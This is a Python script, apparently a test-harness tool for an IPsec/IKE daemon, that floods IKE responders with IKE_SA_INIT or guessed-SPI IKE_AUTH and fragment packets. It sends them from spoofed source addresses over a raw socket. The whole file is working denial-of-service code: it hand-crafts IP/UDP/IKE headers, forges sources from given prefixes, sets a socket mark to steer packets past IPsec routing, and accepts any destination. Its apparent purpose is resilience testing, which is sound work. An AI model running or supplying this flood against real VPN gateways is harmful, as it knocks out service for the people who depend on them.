"""A flood of IKE_SA_INIT requests from spoofed source addresses, sent as fast as one Python process can on a raw
socket (IP_HDRINCL: the source is whatever the packet says). Run as a child process in a namespace:

    python3 lib/flood.py [--protected] DESTINATION[,DESTINATION...] SECONDS SOURCE...   (a SOURCE may be a prefix)

Every request offers aes256gcm16-prfsha256-x25519 with its own initiator SPI (8,192 prepared, sent in a loop).
With --protected, the flood is of protected messages instead, on port 4500 behind the non-ESP marker: IKE_AUTH
requests with an SK payload and RFC 7383 SKF fragments, under guessed SPI pairs and random ciphertext, as an
attacker who cannot see the IKE SAs' SPIs would send them. Prints `sent N in S s` at the end."""
import ipaddress, os, random, socket, struct, sys, time


def proposal():
    """The one IKE proposal of an SA payload: aes256gcm16-prfsha256-x25519 (RFC 7296 section 3.3)."""
    def transform(more, kind, ident, attribute=b""):
        return struct.pack("!BBHBBH", 3 if more else 0, 0, 8 + len(attribute), kind, 0, ident) + attribute
    transforms = transform(True, 1, 20, struct.pack("!HH", 0x800E, 256)) + transform(True, 2, 5) + transform(False, 4, 31)
    return struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms


def ike_sa_init():
    """An IKE_SA_INIT request offering aes256gcm16-prfsha256-x25519 (RFC 7296 section 3), random SPI, KE and nonce."""
    offer = proposal()
    sa = struct.pack("!BBH", 34, 0, 4 + len(offer)) + offer
    ke = struct.pack("!BBHHH", 40, 0, 8 + 32, 31, 0) + os.urandom(32)
    nonce = struct.pack("!BBH", 0, 0, 4 + 32) + os.urandom(32)
    body = sa + ke + nonce
    return os.urandom(8) + bytes(8) + struct.pack("!BBBBII", 33, 0x20, 34, 0x08, 0, 28 + len(body)) + body


def protected(fragment):
    """An IKE_AUTH request with guessed SPIs: an SK payload, or an SKF fragment (1 of 2), of random octets."""
    body = os.urandom(200)
    if fragment:
        payload = struct.pack("!BBHHH", 35, 0, 8 + len(body), 1, 2) + body
        first = 53
    else:
        payload = struct.pack("!BBH", 35, 0, 4 + len(body)) + body
        first = 46
    return os.urandom(16) + struct.pack("!BBBBII", first, 0x20, 35, 0x08, 1, 28 + len(payload)) + payload


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def packet(source, destination, ike, port=500):
    udp = struct.pack("!HHHH", port, port, 8 + len(ike), 0) + ike  # UDP checksum 0: none, allowed over IPv4
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(destination))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + udp


def sources(specs, count):
    """`count` source addresses drawn from the given addresses and prefixes."""
    pools = [ipaddress.ip_network(spec, strict=False) for spec in specs]
    chosen = []
    for _ in range(count):
        pool = random.choice(pools)
        chosen.append(str(pool.network_address + random.randrange(pool.num_addresses)))
    return chosen


def main():
    arguments = sys.argv[1:]
    guessed = arguments[0] == "--protected"
    if guessed:
        arguments = arguments[1:]
    destinations, seconds, specs = arguments[0].split(","), float(arguments[1]), arguments[2:]
    template = ike_sa_init()
    if guessed:
        # Behind the non-ESP marker on 4500, as IKE goes there once NAT is detected.
        packets = [packet(source, destinations[i % len(destinations)], bytes(4) + protected(i % 2 == 1), port=4500)
                   for i, source in enumerate(sources(specs, 8192))]
    else:
        packets = [packet(source, destinations[i % len(destinations)], os.urandom(8) + template[8:])
                   for i, source in enumerate(sources(specs, 8192))]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    # The mark charon's own packets carry (lib/peer.py): without it, once a CHILD SA covers a genuine peer's address,
    # kernel-libipsec's routes take the spoofed packets into its TUN device and they reach the target as ESP.
    s.setsockopt(socket.SOL_SOCKET, 36, 0x42)  # SO_MARK
    targets = [(socket.inet_ntoa(p[16:20]), 0) for p in packets]
    sent, start = 0, time.time()
    end = start + seconds
    send = s.sendto
    while True:
        for p, target in zip(packets, targets):
            try:
                send(p, target)
                sent += 1
            except (BlockingIOError, OSError):
                pass
        if time.time() >= end:
            break
    print(f"sent {sent} in {time.time() - start:.1f} s", flush=True)


if __name__ == "__main__":
    main()
